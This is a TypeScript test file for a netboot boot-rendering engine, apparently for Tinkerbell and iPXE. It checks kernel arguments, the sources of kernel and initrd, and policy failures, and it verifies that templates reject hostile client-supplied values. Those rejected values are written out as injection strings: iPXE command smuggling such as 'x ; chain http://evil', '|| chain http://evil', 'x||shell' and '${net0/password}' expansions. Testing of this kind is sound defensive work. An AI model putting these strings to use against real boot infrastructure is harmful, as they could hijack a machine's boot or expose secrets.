import assert from 'node:assert/strict'
import { test } from 'node:test'
import { decide } from './decide.ts'
import { DEFAULT_POLICY } from './default-policy.ts'
import type { Facts, MachineFacts } from './facts.ts'
import { parsePolicy } from './parse-policy.ts'
import { FACTS, MACHINE, policyOf, SITE } from './policy.fixture.ts'
import { renderBoot } from './render-boot.ts'
import type { SiteFacts } from './site.ts'

const DEFAULT = parsePolicy(DEFAULT_POLICY, 'default')

function bootOf(machine: MachineFacts, site: SiteFacts = SITE, facts: Facts = FACTS) {
  const given = { ...facts, machine }
  return renderBoot(DEFAULT, decide(DEFAULT, given).decision, given, site)
}

const osie = (values: Partial<MachineFacts['netboot']['osie']>): MachineFacts => ({
  ...MACHINE,
  netboot: { ...MACHINE.netboot, osie: { ...MACHINE.netboot.osie, ...values } },
})

test('hook: arguments and their order', () => {
  assert.deepEqual(bootOf(MACHINE), {
    kind: 'linux',
    kernel: 'http://192.0.2.1:7080/files/vmlinuz-x86_64',
    initrd: ['http://192.0.2.1:7080/files/initramfs-x86_64'],
    args: [
      'facility=onprem',
      'syslog_host=192.0.2.1',
      'grpc_authority=192.0.2.1:42113',
      'tinkerbell_tls=false',
      'tinkerbell_insecure_tls=true',
      'worker_id=52:54:00:00:00:01',
      'hw_addr=52:54:00:00:00:01',
      'modules=loop,squashfs,sd-mod,usb-storage',
      'intel_iommu=on',
      'iommu=pt',
      'initrd=initramfs-x86_64',
      'console=tty0',
      'console=ttyS0,115200',
      'console=ttyS1,115200',
      'tink_worker_image=example.org/worker:1',
    ],
  })
})

test('hook: what is configured or recorded besides, the parameters of the record last', () => {
  const site = {
    ...SITE,
    tinkTls: true,
    registry: { host: 'registry.example.org', username: 'tink', password: 's3 cret' },
  }
  const machine = {
    ...osie({ kernelParams: ['console=ttyS0', 'rd.break foo=bar'] }),
    agentId: 'worker-9',
    interface: { ...MACHINE.interface, vlanId: '16' },
  }
  const boot = bootOf(machine, site)
  assert.equal(boot.kind, 'linux')
  assert.deepEqual('args' in boot && boot.args, [
    'facility=onprem',
    'syslog_host=192.0.2.1',
    'grpc_authority=192.0.2.1:42113',
    'tinkerbell_tls=true',
    'tinkerbell_insecure_tls=true',
    'worker_id=worker-9',
    'hw_addr=52:54:00:00:00:01',
    'vlan_id=16',
    'modules=loop,squashfs,sd-mod,usb-storage',
    'intel_iommu=on',
    'iommu=pt',
    'initrd=initramfs-x86_64',
    'console=tty0',
    'console=ttyS0,115200',
    'console=ttyS1,115200',
    'docker_registry=registry.example.org',
    'registry_username=tink',
    'registry_password=s3 cret',
    'tink_worker_image=example.org/worker:1',
    'console=ttyS0',
    'rd.break foo=bar',
  ])
})

test('hook: where kernel and initrd come from', () => {
  const base = 'http://192.0.2.1:7080/files'
  const rows: readonly (readonly [Partial<MachineFacts>, Partial<MachineFacts['netboot']['osie']>, string, string])[] =
    [
      [{}, {}, `${base}/vmlinuz-x86_64`, `${base}/initramfs-x86_64`],
      [{ arch: '' }, {}, `${base}/vmlinuz-x86_64`, `${base}/initramfs-x86_64`],
      [{ arch: 'arm64' }, {}, `${base}/vmlinuz-aarch64`, `${base}/initramfs-aarch64`],
      [{ arch: 'amd64' }, {}, `${base}/vmlinuz-x86_64`, `${base}/initramfs-x86_64`],
      [{ arch: 'ppc64le' }, {}, `${base}/vmlinuz-ppc64le`, `${base}/initramfs-ppc64le`],
      [{}, { baseUrl: 'http://a/b/' }, 'http://a/b/vmlinuz-x86_64', 'http://a/b/initramfs-x86_64'],
      [{}, { kernel: 'k', initrd: 'sub/i.img' }, `${base}/k`, `${base}/sub/i.img`],
      [{}, { kernel: 'https://c/k', initrd: 'tftp://c/i' }, 'https://c/k', 'tftp://c/i'],
      [{}, { baseUrl: 'http://a', kernel: 'https://c/k' }, 'https://c/k', 'http://a/initramfs-x86_64'],
    ]
  for (const [more, values, kernel, initrd] of rows) {
    const boot = bootOf({ ...osie(values), ...more })
    assert.ok(boot.kind === 'linux', JSON.stringify(boot))
    assert.deepEqual([boot.kernel, boot.initrd], [kernel, [initrd]])
    assert.ok(boot.args.includes(`initrd=${initrd.split('/').at(-1)}`))
  }
})

test('hook: an arm64 machine without an architecture in its record', () => {
  const boot = bootOf({ ...MACHINE, arch: '' }, SITE, { ...FACTS, client: { ...FACTS.client, firmware: 'uefi-arm64' } })
  assert.ok(boot.kind === 'linux')
  assert.equal(boot.kernel, 'http://192.0.2.1:7080/files/vmlinuz-aarch64')
  assert.ok(boot.args.includes('console=ttyAMA0,115200'))
})

test('the default policy at the script stage', () => {
  const own = (ipxe: Partial<MachineFacts['netboot']['ipxe']>): MachineFacts => ({
    ...MACHINE,
    netboot: { ...MACHINE.netboot, ipxe: { ...MACHINE.netboot.ipxe, ...ipxe } },
  })
  const rows: readonly (readonly [MachineFacts, object])[] = [
    [own({ url: 'https://a/b.ipxe?mac=${mac}' }), { kind: 'chain', url: 'https://a/b.ipxe?mac=${mac}' }],
    [
      own({ url: 'b.ipxe' }),
      { kind: 'failed', message: 'profile "record-url", chain: "b.ipxe" is not an absolute URL' },
    ],
    [own({ contents: '#!ipxe\nshell || exit\n' }), { kind: 'script', text: '#!ipxe\nshell || exit\n' }],
    [own({ contents: 'shell' }), { kind: 'script', text: '#!ipxe\nshell' }],
    [
      { ...MACHINE, netboot: { ...MACHINE.netboot, allowPxe: false } },
      { kind: 'exit', message: 'netboot is not allowed in the hardware record' },
    ],
    [
      { ...MACHINE, known: false },
      { kind: 'exit', message: 'the machine has no hardware record' },
    ],
    [
      osie({ baseUrl: 'files' }),
      { kind: 'failed', message: 'profile "hook", linux.kernel: "files/vmlinuz-x86_64" is not an absolute URL' },
    ],
    [
      osie({ kernel: 'a b' }),
      {
        kind: 'failed',
        message:
          'profile "hook", linux.kernel: {{ urlJoin(machine.netboot.osie.baseUrl.orElse(site.osieUrl), ma... }} is "http://192.0.2.1:7080/files/a b", which holds a blank',
      },
    ],
    [
      osie({ kernelParams: ['a\nb'] }),
      {
        kind: 'failed',
        message:
          'profile "hook", linux.args[19]: {{ machine.netboot.osie.kernelParams }} is "a\\nb", which holds a control character',
      },
    ],
  ]
  for (const [machine, expected] of rows) assert.deepEqual(bootOf(machine), expected)
})

test('a site without a URL for its installation environment', () => {
  const boot = bootOf(MACHINE, { ...SITE, osieUrl: '' })
  assert.ok(boot.kind === 'failed')
  assert.match(boot.message, /^profile "hook", linux\.kernel: .*no URL to find "vmlinuz-x86_64" below/s)
})

test('no message shows the password', () => {
  const boot = bootOf(MACHINE, { ...SITE, registry: { host: 'r', username: 'u', password: 'hunter2\n' } })
  assert.ok(boot.kind === 'failed')
  assert.match(boot.message, /control character/)
  assert.doesNotMatch(boot.message, /hunter2/)
})

test('no message shows the password, when an expression over it fails neither', () => {
  const site = { ...SITE, registry: { host: 'r', username: 'u', password: 'hunter2' } }
  const templates = [
    `{ linux: { kernel: 'http://a/k', args: '{{ mac(site.registry.password) }}' } }`,
    `{ linux: { kernel: 'http://a/k', args: '{{ [site.registry.password].map(x, mac(x)) }}' } }`,
    `{ ipxe: { script: 'echo {{ urlJoin("", site.registry.password) }}' } }`,
    `{ chain: '{{ site.registry.password }}' }`,
  ]
  for (const template of templates) {
    const policy = policyOf([['true', '{ boot: p }']], `profiles: { p: ${template} }\n`)
    const boot = renderBoot(policy, { kind: 'boot', profile: 'p' }, FACTS, site)
    assert.ok(boot.kind === 'failed')
    assert.doesNotMatch(boot.message, /hunter2/)
  }
})

/** What one value does when a script template inserts it: the text, or what the refusal says. */
function inserted(template: string, facts: Facts): string {
  const profiles = `profiles: { p: { ipxe: { script: ${JSON.stringify(template)} } } }\n`
  const policy = policyOf([['true', '{ boot: p }']], profiles)
  const boot = renderBoot(policy, { kind: 'boot', profile: 'p' }, facts, SITE)
  assert.ok(boot.kind === 'script' || boot.kind === 'failed')
  return boot.kind === 'script' ? boot.text : boot.message
}

test('script templates: values stay one value of their line', () => {
  const client = (vendorClass: string): Facts => ({ ...FACTS, client: { ...FACTS.client, vendorClass } })
  const named = (name: string): Facts => ({ ...FACTS, machine: { ...MACHINE, name } })
  const rows: readonly (readonly [string, Facts, string | RegExp])[] = [
    ['echo {{ client.mac }} ${net0/mac}', FACTS, '#!ipxe\necho 52:54:00:00:00:01 ${net0/mac}'],
    ['#!ipxe\nset n {{ client.arch + 1 }} {{ machine.known }}', FACTS, '#!ipxe\nset n 8 true'],
    ['echo {{ "}}" }}{{ client.mac }}', FACTS, '#!ipxe\necho }}52:54:00:00:00:01'],
    ['echo {{ machine.labels.rack }}', FACTS, '#!ipxe\necho 12'],
    [
      'echo {{ machine.labels.row }}',
      FACTS,
      /profile "p", ipxe\.script: \{\{ machine\.labels\.row \}\}: no such key: row$/,
    ],
    ['echo {{ machine.metadata.owner }}', FACTS, /neither text nor number nor boolean$/],
    ['echo {{ client.vendorClass }}', client('a\nchain http://evil'), /holds a control character$/],
    ['echo {{ client.vendorClass }}', client('a\rb'), /holds a control character$/],
    ['echo {{ client.vendorClass }}', client('a\u2028b'), /holds a control character$/],
    ['echo {{ client.vendorClass }}', client('${net0/password}'), /holds \$$/],
    ['echo {{ client.vendorClass }}', client('x||shell'), /holds \|\|$/],
    ['echo {{ client.vendorClass }}', client('x&&shell'), /holds &&$/],
    ['echo {{ client.vendorClass }}{{ client.vendorClass }}', client('&'), /holds &$/],
    ['echo {{ client.vendorClass }}', client('x\\'), /holds \\$/],
    ['echo {{ client.vendorClass }}', client('x"y'), /holds "$/],
    ['echo "{{ client.vendorClass }}"', client("x'y"), /holds '$/],
    ['echo {{ client.vendorClass }}', client('a rd.break'), /put the \{\{ \}\} between double quotes$/],
    ['echo {{ client.vendorClass }}', client('a#b'), /put the \{\{ \}\} between double quotes$/],
    ['echo "{{ client.vendorClass }}"', client('a b#c'), '#!ipxe\necho "a b#c"'],
    // iPXE has no quotes: these words stand for themselves behind any.
    ['echo "{{ client.vendorClass }}"', client('x ; chain http://evil'), /holds ;$/],
    ['echo {{ client.vendorClass }} chain', client(';'), /holds ;$/],
    ['echo "{{ client.vendorClass }}" || shell', client('x #'), /holds a word that begins with #$/],
    ['echo {{ machine.name }} || shell', named('rack 12 #3'), /holds a word that begins with #$/],
    ['echo {{ machine.name }} || shell', named('#3'), /holds a word that begins with #$/],
    ['echo {{ machine.name }}', named('x ; shell'), /holds ;$/],
    ['echo {{ machine.name }}{{ machine.name }}', named('| x |'), /holds \|$/],
    ['echo {{ machine.name }}', named('a;b#c&d|e'), '#!ipxe\necho a;b#c&d|e'],
    ['chain http://a/?x={{ client.uuid }}&y=1', FACTS, '#!ipxe\nchain http://a/?x=&y=1'],
    ['echo {{ machine.name }}', named('rack 12'), '#!ipxe\necho rack 12'],
    ['echo {{ machine.name }}', named('rack 12\nshell'), /holds a control character$/],
  ]
  for (const [template, facts, expected] of rows) {
    const check = typeof expected === 'string' ? assert.equal : assert.match
    ;(check as (actual: string, wanted: unknown, message: string) => void)(
      inserted(template, facts),
      expected,
      template,
    )
  }
})

test('arguments: an empty item is left out, a list is as many items, a blank from the wire is refused', () => {
  const args = (list: string) => {
    const profiles = `profiles: { p: { linux: { kernel: 'http://a/k', args: ${list} } } }\n`
    return policyOf([['true', '{ boot: p }']], profiles)
  }
  const facts = { ...FACTS, client: { ...FACTS.client, vendorClass: 'a b', userClass: ['x', '', 'y'] } }
  const rows: readonly (readonly [string, object])[] = [
    [
      `[quiet, '', '{{ "" }}', 'n={{ client.arch }}']`,
      { kind: 'linux', kernel: 'http://a/k', initrd: [], args: ['quiet', 'n=7'] },
    ],
    [`['{{ client.userClass }}', z]`, { kind: 'linux', kernel: 'http://a/k', initrd: [], args: ['x', 'y', 'z'] }],
    [`'{{ machine.tags }}'`, { kind: 'linux', kernel: 'http://a/k', initrd: [], args: ['gpu', 'new'] }],
    [
      `['v={{ client.vendorClass }}']`,
      { kind: 'failed', message: 'profile "p", linux.args[0]: {{ client.vendorClass }} is "a b", which holds a blank' },
    ],
  ]
  for (const [list, expected] of rows) {
    assert.deepEqual(renderBoot(args(list), { kind: 'boot', profile: 'p' }, facts, SITE), expected)
  }
})

test('what the wire says of itself cannot be expanded by iPXE nor become two arguments, alone or in a list', () => {
  const policy = (argument: string) =>
    policyOf([['true', '{ boot: p }']], `profiles: { p: { linux: { kernel: 'http://a/k', args: ['${argument}'] } } }\n`)
  const hostile = { ...FACTS.client, vendorClass: 'x${net0/ip}', userClass: ['a', '|| chain http://evil'] }
  const rendered = ['v={{ client.vendorClass }}', '{{ client.userClass }}', 'm=${mac}'].map((argument) =>
    renderBoot(policy(argument), { kind: 'boot', profile: 'p' }, { ...FACTS, client: hostile }, SITE),
  )
  assert.deepEqual(rendered, [
    { kind: 'failed', message: 'profile "p", linux.args[0]: {{ client.vendorClass }} is "x${net0/ip}", which holds $' },
    {
      kind: 'failed',
      message: 'profile "p", linux.args[0]: {{ client.userClass }} is "|| chain http://evil", which holds a blank',
    },
    { kind: 'linux', kernel: 'http://a/k', initrd: [], args: ['m=${mac}'] },
  ])
})

test('a decision of another policy', () => {
  assert.deepEqual(renderBoot(DEFAULT, { kind: 'boot', profile: 'gone' }, FACTS, SITE), {
    kind: 'failed',
    message: 'there is no profile "gone"',
  })
  assert.deepEqual(renderBoot(DEFAULT, { kind: 'local-disk' }, FACTS, SITE), {
    kind: 'exit',
    message: 'booting from the local disk',
  })
})
